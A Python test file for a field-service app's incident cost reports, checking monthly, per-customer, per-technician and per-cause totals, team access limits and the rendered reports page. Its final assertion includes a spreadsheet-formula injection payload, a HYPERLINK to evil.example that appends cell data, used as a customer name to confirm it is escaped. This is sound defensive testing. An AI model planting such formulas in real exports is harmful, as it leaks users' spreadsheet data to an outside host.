"""What incidents cost, on the known data set (tests/reports/conftest.py): sums of the
accepted revisions' frozen figures, by month in New York time, by customer, by
technician and by cause; a supervisor counts only their team's incidents."""

from datetime import date
from decimal import Decimal

from fieldsvc.reports.services import (
    CostGrouping,
    CostRow,
    Period,
    cost_of_incidents,
    cost_total,
)
from tests.reports.conftest import FORMULA_CUSTOMER, PERIOD


def _rows(rows: list[CostRow]) -> list[tuple]:
    return [
        (
            row.label,
            row.incidents,
            str(row.we_absorbed),
            str(row.customer_paid),
            str(row.customer_tax),
        )
        for row in rows
    ]


def test_the_broken_transmitters_accepted_through_the_services_keeps_its_frozen_figures(known_data):
    revision = known_data.incidents["i1"].proposals[0].current
    assert (revision.customer_pays, revision.customer_tax, revision.we_absorb) == (
        Decimal("350.00"),
        Decimal("21.88"),
        Decimal("1180.00"),
    )


def test_cost_by_month_dates_each_acceptance_in_company_time(known_data):
    rows = cost_of_incidents(known_data.supervisor, PERIOD, CostGrouping.MONTH)

    # i2 was accepted at 03:00 UTC on 1 March: 28 February in New York.
    # i7's acceptance, 31 December 23:00 in New York, is before the period.
    # i3 was accepted in March and again in April: it counts in both months.
    assert _rows(rows) == [
        ("2026-01", 1, "1180.00", "350.00", "21.88"),
        ("2026-02", 1, "50.00", "100.00", "6.25"),
        ("2026-03", 1, "300.00", "200.00", "12.50"),
        ("2026-04", 2, "75.50", "500.00", "31.25"),
        ("2026-05", 0, "0.00", "0.00", "0.00"),
        ("2026-06", 0, "0.00", "0.00", "0.00"),
    ]


def test_cost_by_month_of_a_single_month(known_data):
    april = Period(date(2026, 4, 1), date(2026, 4, 30))

    rows = cost_of_incidents(known_data.supervisor, april, CostGrouping.MONTH)

    assert _rows(rows) == [("2026-04", 2, "75.50", "500.00", "31.25")]


def test_cost_by_customer_technician_and_cause(known_data):
    def by(grouping):
        return _rows(cost_of_incidents(known_data.supervisor, PERIOD, grouping))

    assert by(CostGrouping.CUSTOMER) == [
        ("Northwind Pharma", 3, "1555.50", "1050.00", "65.63"),
        (FORMULA_CUSTOMER, 1, "50.00", "100.00", "6.25"),
    ]
    assert by(CostGrouping.TECHNICIAN) == [
        ("Tom Technician", 2, "1230.00", "450.00", "28.13"),
        ("Uma Technician", 1, "375.50", "200.00", "12.50"),
        ("Reported by the customer", 1, "0.00", "500.00", "31.25"),
    ]
    assert by(CostGrouping.CAUSE) == [
        ("Our technician", 2, "1555.50", "550.00", "34.38"),
        ("Third party", 1, "50.00", "100.00", "6.25"),
        ("Customer", 1, "0.00", "500.00", "31.25"),
    ]


def test_total_counts_each_incident_once_and_leaves_declined_offers_out(known_data):
    # i4's declined revision (800.00 / 50.00) is not counted.
    assert _rows([cost_total(known_data.supervisor, PERIOD)]) == [
        ("Total", 4, "1605.50", "1150.00", "71.88")
    ]


def test_another_teams_incidents_are_counted_for_admins_only(known_data):
    assert "Other Co" not in [
        row.label for row in cost_of_incidents(known_data.supervisor, PERIOD, CostGrouping.CUSTOMER)
    ]
    assert _rows([cost_total(known_data.other_supervisor, PERIOD)]) == [
        ("Total", 1, "999.00", "999.00", "62.44")
    ]
    assert _rows([cost_total(known_data.admin, PERIOD)]) == [
        ("Total", 5, "2604.50", "2149.00", "134.32")
    ]
    by_customer = _rows(cost_of_incidents(known_data.admin, PERIOD, CostGrouping.CUSTOMER))
    assert ("Other Co", 1, "999.00", "999.00", "62.44") in by_customer


def test_reports_page_shows_the_supervisors_figures(client, known_data):
    client.sign_in(known_data.supervisor.email)

    response = client.get("/reports?from=2026-01-01&to=2026-06-30")

    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "USD 1,555.50" in page  # Northwind, and our technician
    assert "USD 1,605.50" in page  # the total absorbed
    assert "Reported by the customer" in page
    assert "Other Co" not in page
    assert "999.00" not in page
    # The customer's name is shown as text, never as markup or a formula result.
    assert "=HYPERLINK(&#34;http://evil.example/?leak=&#34;&amp;A1,&#34;Click&#34;)" in page
